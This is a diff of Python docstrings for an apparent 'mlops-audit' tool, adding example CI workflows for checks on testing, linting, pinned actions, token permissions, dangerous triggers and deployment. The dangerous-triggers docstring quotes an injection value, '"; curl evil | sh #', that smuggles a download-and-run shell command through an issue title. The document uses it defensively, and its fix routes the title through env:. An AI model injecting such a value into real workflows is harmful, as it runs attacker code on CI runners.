@@ -83,7 +83,17 @@ def ci_runs_tests(repo: Repo) -> Result:
     Why it matters: tests that CI does not run rot; a pull request must not merge when they fail.
 
     How to fix: add a step that runs the tests, e.g. ``run: uv run pytest`` (or ``make test`` when the Makefile
-    target runs them).
+    target runs them); ``mlops-audit fix --select CI002`` writes the template's workflow.
+
+    Example (``.github/workflows/ci.yml``)::
+
+        on: [push, pull_request]
+        jobs:
+          test:
+            runs-on: ubuntu-latest
+            steps:
+              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
+              - run: pip install -e ".[test]" && pytest -q
     """
     found = ci.test_commands(repo)
     if found:
@@ -116,7 +126,15 @@ def ci_runs_lint(repo: Repo) -> Result:
     enforced for everyone, so reviews discuss design instead of formatting.
 
     How to fix: add ``run: uv run ruff check . && uv run ruff format --check .`` or
-    ``run: uv run pre-commit run --all-files`` to the CI workflow.
+    ``run: uv run pre-commit run --all-files`` to the CI workflow, or enable pre-commit.ci.
+
+    Example (``.gitlab-ci.yml``)::
+
+        lint:
+          image: python:3.12-slim
+          script:
+            - pip install ruff
+            - ruff check . && ruff format --check .
     """
     found = ci.lint_commands(repo)
     if found:
@@ -149,9 +167,10 @@ def precommit_hooks(repo: Repo) -> Result:
     Why it matters: hooks catch style errors, debug leftovers and large files before they are committed,
     seconds after they are written, and keep diffs free of formatting noise.
 
-    How to fix: add ``.pre-commit-config.yaml`` and run ``pre-commit install``.
+    How to fix: add ``.pre-commit-config.yaml`` and run ``pre-commit install``. A linter without a formatter
+    (or the reverse) earns partial credit.
 
-    Example::
+    Example (``.pre-commit-config.yaml``)::
 
         repos:
           - repo: https://github.com/astral-sh/ruff-pre-commit
@@ -193,9 +212,13 @@ def linter_configured(repo: Repo) -> Result:
 
     Why it matters: a linter finds bugs (unused variables, shadowed names, mutable defaults) before tests do;
     an explicit rule selection (``select = [...]``) makes the standard visible, reviewable and stable across
-    linter upgrades. Default rules earn partial credit; a formatter alone or a hook without configuration less.
+    linter upgrades.
 
-    How to fix::
+    How to fix: list the rules in the linter's configuration — ``select`` for ruff, ``select`` / ``extend-select``
+    for flake8, ``enable`` for pylint (``mlops-audit fix --select CI005`` writes the template's ruff settings).
+    Default rules earn partial credit; a linter hook without configuration, or a formatter alone, less.
+
+    Example (``pyproject.toml``)::
 
         [tool.ruff.lint]
         select = ["E", "F", "W", "I", "B", "UP", "SIM"]
@@ -246,7 +269,10 @@ def dependency_bot(repo: Repo) -> Result:
     Why it matters: a locked environment is reproducible but ages; security fixes and framework upgrades
     arrive as small, tested pull requests instead of a painful big-bang upgrade.
 
-    How to fix: add ``.github/dependabot.yml``::
+    How to fix: add ``.github/dependabot.yml`` (``mlops-audit fix --select CI006`` writes the template's) or a
+    Renovate configuration (``renovate.json``).
+
+    Example (``.github/dependabot.yml``)::
 
         version: 2
         updates:
@@ -277,15 +303,21 @@ def workflow_permissions(repo: Repo) -> Result:
     Why it matters: without it the ``GITHUB_TOKEN`` gets the repository's default scopes — often write access
     to code, packages and releases — and any compromised step or dependency can push code or publish artefacts.
 
-    How to fix: declare the minimum at the top and widen per job::
+    How to fix: declare the minimum at the top of each workflow and widen it only for the jobs that need more.
 
+    Example (``.github/workflows/release.yml``)::
+
+        on: {push: {tags: ["v*"]}}
         permissions:
           contents: read
         jobs:
           release:
+            runs-on: ubuntu-latest
             permissions:
               contents: write
               id-token: write
+            steps:
+              - run: echo "publish the release"
     """
     workflows = _github(repo)
     if not workflows:
@@ -329,8 +361,19 @@ def actions_pinned(repo: Repo) -> Result:
     Why it matters: tags and branches are mutable — a compromised action (as with ``tj-actions/changed-files``
     in 2025) silently runs new code in every workflow that references ``@v4``; a SHA cannot change.
 
-    How to fix: ``uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2`` — tools like
-    ``pinact`` or Dependabot/Renovate keep the pins up to date.
+    How to fix: replace each tag by the commit it points at and keep the tag in a comment; tools like
+    ``pinact`` pin them, and Dependabot / Renovate keep the pins up to date.
+
+    Example (``.github/workflows/ci.yml``)::
+
+        on: [push, pull_request]
+        jobs:
+          test:
+            runs-on: ubuntu-latest
+            steps:
+              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
+              - uses: ./.github/actions/setup
+              - run: pytest
     """
     refs = list(ci.github_actions(repo))
     if not refs:
@@ -374,11 +417,20 @@ def dangerous_triggers(repo: Repo) -> Result:
     there hands both to anyone who opens a pull request. An issue title like ``"; curl evil | sh #`` pasted
     into ``run:`` through ``${{ }}`` is executed as shell.
 
-    How to fix: use ``pull_request`` for untrusted code; pass event fields through ``env:``::
+    How to fix: use ``pull_request`` for untrusted code; pass event fields to scripts through ``env:`` and
+    quote the variable, so the shell sees data, not code.
 
-        - run: echo "$TITLE"
-          env:
-            TITLE: ${{ github.event.issue.title }}
+    Example (``.github/workflows/greet.yml``)::
+
+        on: issues
+        permissions: {issues: read}
+        jobs:
+          greet:
+            runs-on: ubuntu-latest
+            steps:
+              - run: echo "$TITLE"
+                env:
+                  TITLE: ${{ github.event.issue.title }}
     """
     workflows = _github(repo)
     if not workflows:
@@ -420,8 +472,24 @@ def audit_in_ci(repo: Repo) -> Result:
     """CI runs ``mlops-audit`` itself (a step, the action, or its pre-commit hook run by CI), so the practices
     scored here cannot silently regress.
 
-    How to fix: add a step ``run: uvx mlops-audit check --fail-under 70`` (or the ``mlops-audit`` pre-commit
-    hook together with ``pre-commit run --all-files`` in CI).
+    Why it matters: a score measured once decays — a committed model file, an unpinned action or a dropped
+    seed slips in with the next pull request; run in CI, the audit gates every change against the practices
+    the team already reached.
+
+    How to fix: add a step ``run: uvx mlops-audit . --fail-under 70`` (or use the mlops-audit GitHub Action,
+    or its pre-commit hook together with ``pre-commit run --all-files`` in CI);
+    ``mlops-audit fix --select CI010`` writes the template's workflow.
+
+    Example (``.github/workflows/ci.yml``)::
+
+        on: [push, pull_request]
+        jobs:
+          audit:
+            runs-on: ubuntu-latest
+            steps:
+              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
+              - run: pip install mlops-audit
+              - run: mlops-audit . --fail-under 70
     """
     found = ci.runs(repo, "audit")
     if found:
@@ -482,14 +550,20 @@ def continuous_delivery(repo: Repo) -> Result:
     SageMaker, Flyte). A batch project whose model reaches its users through the registry (promotion is CT003)
     has nothing to roll out: not applicable.
 
-    How to fix::
+    How to fix: add a job that deploys or publishes on pushes to the main branch, tags or releases, with a
+    deployment ``environment`` for approvals and secrets. A deploy job started only by hand
+    (``workflow_dispatch``, GitLab ``when: manual``) earns half the credit.
 
-        deploy:
-          needs: test
-          if: github.ref == 'refs/heads/main'
-          environment: production
-          steps:
-            - run: docker build -t $IMAGE . && docker push $IMAGE
+    Example (``.github/workflows/cd.yml``)::
+
+        on:
+          push: {branches: [main]}
+        jobs:
+          deploy:
+            environment: production
+            runs-on: ubuntu-latest
+            steps:
+              - run: docker build -t "$IMAGE" . && docker push "$IMAGE"
     """
     jobs = deploy_jobs(repo)
     if not jobs:
@@ -516,8 +590,20 @@ def ci_on_pull_requests(repo: Repo) -> Result:
 
     Why it matters: a workflow that runs only on ``main`` reports failures after the damage is done.
 
-    How to fix: ``on: {push: {branches: [main]}, pull_request: {}}`` (GitHub); GitLab branch or merge request
-    pipelines; Azure ``pr:``; Bitbucket ``pull-requests:`` or ``default``.
+    How to fix: trigger the workflow on pull requests (GitHub ``pull_request``), run GitLab pipelines for
+    branches or merge requests, add Azure ``pr:`` or Bitbucket ``pull-requests:`` / ``default`` pipelines;
+    ``mlops-audit fix --select CI012`` writes the template's workflow.
+
+    Example (``.github/workflows/ci.yml``)::
+
+        on:
+          push: {branches: [main]}
+          pull_request:
+        jobs:
+          test:
+            runs-on: ubuntu-latest
+            steps:
+              - run: pytest
     """
     pipes = [p for p in ci.pipelines(repo) if p.parsed]
     if not pipes:
